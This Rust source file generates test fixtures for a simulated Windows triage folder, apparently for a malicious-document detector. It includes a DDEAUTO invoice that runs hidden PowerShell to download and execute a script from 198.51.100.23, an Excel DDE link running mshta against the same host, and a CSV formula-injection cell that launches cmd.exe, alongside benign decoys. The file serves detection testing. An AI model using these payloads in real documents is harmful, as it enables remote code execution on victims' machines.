//! The `sample-evidence/` triage folder of one Windows host, used by the
//! README's demo: two users' downloads, mail cache, desktop and documents,
//! with three malicious files among benign ones.

use crate::excel::{self, CT_XLSX, realistic_excel};
use crate::prose::{self, Rng};
use crate::text::table;
use crate::word::{
    self, A4_SECTION, CT_DOCX, fld_char_field, p, p_styled, run, run_bold, word_body,
    word_body_with_section, word_part,
};
use crate::word_extras::realistic_word;

/// The instruction runs of the DDEAUTO field in `Invoice_2291.docx`.
pub const INVOICE_INSTR_RUNS: &[&str] = &[
    "DDEAUTO ",
    r#""C:\\Programs\\Microsoft\\Office\\MSWord.exe\\..\\..\\..\\..\\"#,
    r"Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoP -W Hidden -c ",
    r#"IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.23/inv.ps1') # " "#,
    r#""Invoice.docx""#,
];

/// Fixture 28: An invoice with a DDEAUTO field split across runs.
pub fn invoice() -> Vec<u8> {
    let rows: Vec<Vec<String>> = [
        ["Description", "Qty", "Unit price", "Amount"],
        [
            "Consulting services, September 2017",
            "12",
            "€95.00",
            "€1,140.00",
        ],
        ["Travel expenses (Lyon)", "1", "€312.40", "€312.40"],
        ["Software licence renewal", "3", "€49.00", "€147.00"],
        ["", "", "Total due", "€1,599.40"],
    ]
    .iter()
    .map(|r| r.iter().map(|c| c.to_string()).collect())
    .collect();
    let body = [
        p_styled("Title", &run("INVOICE")),
        p(&run_bold("Northwind Traders SARL")),
        p(&run("14 Rue des Lilas, 69003 Lyon, France")),
        p(&run(
            "Invoice number: 2291    Date: 9 October 2017    Due: 23 October 2017",
        )),
        p(&run(
            "Bill to: Contoso Ltd, Accounts Payable, attn. Alice Martin",
        )),
        word::table(&[4800, 900, 1600, 1700], &rows, true),
        p(&run(
            "Payment by bank transfer to IBAN FR76 3000 6000 0112 3456 7890 189 within 14 days. \
             Please quote the invoice number with your payment.",
        )),
        p(
            &(run("This document contains fields that refer to other files. ")
                + &fld_char_field(INVOICE_INSTR_RUNS, "Invoice details")),
        ),
        p(&run("Thank you for your business.")),
    ]
    .concat();
    realistic_word(
        CT_DOCX,
        word_body(&body).as_bytes(),
        &[],
        "Invoice 2291",
        "Accounts",
    )
}

/// Fixture 29: A payment advice workbook with a DDE link to `mshta`.
pub fn payment_advice() -> Vec<u8> {
    let strings = [
        "Payment advice",
        "Reference",
        "Date",
        "Amount (EUR)",
        "PA-2017-0931",
        "PA-2017-0932",
        "PA-2017-0933",
        "Total",
    ];
    let s = |text: &str| strings.iter().position(|x| *x == text).expect("string");
    let rows = [
        excel::row(1, &[excel::cell_shared("A1", s("Payment advice"))]),
        excel::row(
            3,
            &[
                excel::cell_shared("A3", s("Reference")),
                excel::cell_shared("B3", s("Date")),
                excel::cell_shared("C3", s("Amount (EUR)")),
            ],
        ),
        excel::row(
            4,
            &[
                excel::cell_shared("A4", s("PA-2017-0931")),
                excel::cell_number("B4", 43017.0),
                excel::cell_number("C4", 1250.5),
            ],
        ),
        excel::row(
            5,
            &[
                excel::cell_shared("A5", s("PA-2017-0932")),
                excel::cell_number("B5", 43018.0),
                excel::cell_number("C5", 980.0),
            ],
        ),
        excel::row(
            6,
            &[
                excel::cell_shared("A6", s("PA-2017-0933")),
                excel::cell_number("B6", 43019.0),
                excel::cell_number("C6", 2310.75),
            ],
        ),
        excel::row(
            7,
            &[
                excel::cell_shared("A7", s("Total")),
                excel::cell_formula("C7", "SUM(C4:C6)", "4541.25"),
            ],
        ),
    ]
    .concat();
    let sheet = excel::sheet_xml(&rows);
    let shared = excel::shared_strings_xml(&strings);
    let link = excel::dde_link_xml(
        "cmd",
        "/c mshta http://198.51.100.23/pa.hta",
        &["_xlbgnm.A1"],
    );
    realistic_excel(
        CT_XLSX,
        &[
            ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
            ("xl/externalLinks/externalLink1.xml", link.as_bytes()),
            ("xl/sharedStrings.xml", shared.as_bytes()),
        ],
        "Payment advice",
        "Treasury",
    )
}

/// Fixture 30: A contacts export with one DDE cell.
pub fn contacts_export() -> Vec<u8> {
    table(
        &[
            &[
                "First Name",
                "Last Name",
                "E-mail Address",
                "Business Phone",
                "Company",
                "Notes",
            ],
            &[
                "Alice",
                "Martin",
                "alice.martin@contoso.example",
                "+33 4 72 00 00 01",
                "Contoso",
                "",
            ],
            &[
                "Bob",
                "Keller",
                "bob.keller@contoso.example",
                "+33 4 72 00 00 02",
                "Contoso",
                "Desk 4B",
            ],
            &[
                "Carol",
                "Nguyen",
                "carol@northwind.example",
                "+44 20 7946 0001",
                "Northwind",
                "Supplier",
            ],
            &[
                "David",
                "Okafor",
                "d.okafor@fabrikam.example",
                "+1 425 555 0100",
                "Fabrikam",
                "met at expo, 2017",
            ],
            &[
                "Erin",
                "Svensson",
                "erin.svensson@tailspin.example",
                "+46 8 555 012 34",
                "Tailspin",
                "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!A0",
            ],
            &[
                "Frank",
                "Rossi",
                "frank.rossi@adatum.example",
                "+39 02 5555 0199",
                "Adatum",
                "",
            ],
        ],
        ',',
    )
    .into_bytes()
}

/// Fixture 31: A benign report with TOC and PAGE fields and several sections.
pub fn quarterly_report() -> Vec<u8> {
    let mut rng = Rng::new(31);
    let mut body = p_styled("Title", &run("Quarterly Report Q3 2017"));
    body.push_str(&p(&fld_char_field(
        &[r#" TOC \o "1-3" \h \z \u "#],
        "Contents",
    )));
    for section in ["Summary", "Sales", "Operations", "Outlook"] {
        body.push_str(&p_styled("Heading1", &run(section)));
        for _ in 0..3 {
            body.push_str(&p(&run(&prose::paragraph(&mut rng, 3, 6))));
        }
    }
    let section = A4_SECTION.replace(
        "<w:sectPr>",
        "<w:sectPr><w:footerReference w:type=\"default\" r:id=\"rId1\"/>",
    );
    let document = word_body_with_section(&body, &section);
    let footer = word_part(
        "ftr",
        &p(&(run("Page ") + &fld_char_field(&[" PAGE "], "1"))),
    );
    realistic_word(
        CT_DOCX,
        document.as_bytes(),
        &[("word/footer1.xml", footer.as_bytes())],
        "Quarterly Report Q3 2017",
        "Bob Keller",
    )
}

/// Fixture 32a: Plain notes.
pub fn notes() -> Vec<u8> {
    b"Notes - week 41\r\n\
      \r\n\
      - Call the bank about the new payment portal.\r\n\
      - Review supplier invoices before Friday (Northwind, Fabrikam).\r\n\
      - Team lunch on Thursday, 12:30.\r\n\
      - Ask IT why Word keeps asking to update links.\r\n"
        .to_vec()
}

/// Fixture 32b: 64 bytes that begin like a JFIF image (a format the tool does not
/// handle).
pub fn photo() -> Vec<u8> {
    let mut bytes = vec![
        0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, b'J', b'F', b'I', b'F', 0x00, 0x01, 0x01, 0x00, 0x00,
        0x48, 0x00, 0x48, 0x00, 0x00,
    ];
    bytes.resize(62, 0);
    bytes.extend_from_slice(&[0xFF, 0xD9]);
    bytes
}
